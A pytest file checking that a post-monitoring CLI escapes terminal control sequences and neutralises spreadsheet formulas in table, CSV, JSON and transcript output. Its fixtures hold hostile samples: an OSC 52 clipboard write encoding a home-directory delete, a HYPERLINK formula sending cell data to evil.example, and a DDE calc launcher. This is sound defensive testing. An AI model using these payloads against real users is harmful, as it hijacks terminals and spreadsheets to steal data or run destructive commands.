"""Post text cannot drive the terminal or spreadsheet of an analyst; JSON keeps it exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from storage.engine import transaction
from storage.models import Media, Transcript, TranscriptSegment
from tests.conftest import TestDatabase, invoke
from tests.support.corpus import seed
from tests.support.hostile_texts import HOSTILE_TEXTS

# What a monitored account could post to attack whoever reads it in a terminal.
TERMINAL_ATTACKS = [
    "Candlelight \x1b]0;pwned title\x07 sets the window title",
    "Candlelight \x1b]52;c;cm0gLXJmIH4=\x07 writes the clipboard (OSC 52)",
    "Candlelight \x1b[2J\x1b[H clears the screen \x1b[31mred\x1b[0m",
    "Candlelight \x9b2J C1 CSI \x9d8;;http://evil\x9c C1 OSC \x7f DEL \x01 SOH \x08 BS",
    "Candlelight lone\rcarriage return and CRLF\r\nline two",
    "Candlelight [link=https://evil.example]rich markup[/link] :smile: [bold]x[/bold]",
]
# What a monitored account could post to attack whoever opens the CSV in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Candlelight")',
    "+1+cmd|' /C calc'!A0 Candlelight",
    "-2+3 Candlelight",
    "@SUM(1+1) Candlelight",
    "\tCandlelight after a tab",
    "\rCandlelight after a CR",
]
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\x7f", "\x01", "\x08")


@pytest.fixture
def config(db: TestDatabase, tmp_path: Path) -> Path:
    path = seed(db, tmp_path, [*TERMINAL_ATTACKS, *FORMULAS, *HOSTILE_TEXTS.values()])
    assert invoke(path, "keywords", "rescan").exit_code == 0
    return path


@pytest.mark.parametrize(
    "args",
    [
        ("posts", "--limit", "100"),
        ("hits",),
        ("search", "candlelight"),
        ("posts", "--limit", "100", "--format", "csv"),  # raw CSV goes to files, shown below
    ],
)
def test_tables_show_control_characters_visibly(config: Path, args: tuple[str, ...]) -> None:
    result = invoke(config, *args, "--width", "300")
    assert result.exit_code == 0, result.output
    output = result.output
    if "csv" in args:  # CSV keeps the text exact for files: no table to check here
        assert "\x1b]52;" in output
        return
    for control in RAW_CONTROLS:
        assert control not in output, repr(control)
    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in output
    assert "\\x1b[2J" in output
    # Rich markup in post text is printed as written, never interpreted.
    if args[0] != "hits":
        assert "[link=https://evil.example]rich markup[/link] :smile:" in output


def test_search_query_and_titles_are_not_markup(config: Path) -> None:
    result = invoke(config, "search", "[bold]zz\x1b]0;t\x07", "--width", "200")
    assert result.exit_code == 0, result.output
    assert "search: [bold]zz\\x1b]0;t\\x07" in result.output
    assert "\x1b" not in result.output


def test_csv_neutralises_formula_prefixes(config: Path) -> None:
    result = invoke(config, "posts", "--limit", "100", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
    texts = {row["text"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in texts, formula
        assert formula not in texts
    # Texts that are no formula are left exactly as they were.
    assert TERMINAL_ATTACKS[1] in texts and HOSTILE_TEXTS[104] in texts
    # Numbers are not text: no quote in front of a number cell.
    assert all(not row["id"].startswith("'") for row in rows)


def test_json_keeps_every_text_exact(config: Path) -> None:
    result = invoke(config, "posts", "--limit", "100", "--format", "json")
    for control in RAW_CONTROLS:
        assert control not in result.output, repr(control)  # escaped, not written raw
    texts = {post["text"] for post in json.loads(result.output)}
    for text in [*TERMINAL_ATTACKS, *FORMULAS, *HOSTILE_TEXTS.values()]:
        assert text in texts, repr(text[:40])


def test_transcript_text_shows_control_characters_visibly(db: TestDatabase, tmp_path: Path) -> None:
    config = seed(db, tmp_path, ["a video"])
    with transaction(db.engine) as session:
        media = Media(post_id=1, position=0, kind="video", status="done")
        session.add(media)
        session.flush()
        said = "we said \x1b]52;c;cm0=\x07 this"
        transcript = Transcript(media_id=media.id, backend="faster-whisper", model="t", text=said)
        session.add(transcript)
        session.flush()
        session.add(
            TranscriptSegment(
                transcript_id=transcript.id, position=0, start_seconds=0, end_seconds=2, text=said
            )
        )
    for fmt in ("text", "srt", "vtt"):
        result = invoke(config, "transcript", "1", "--format", fmt)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\\x1b]52;c;cm0=\\x07 this" in result.output
    exact = json.loads(invoke(config, "transcript", "1", "--format", "json").output)
    assert exact["transcripts"][0]["segments"][0]["text"] == said
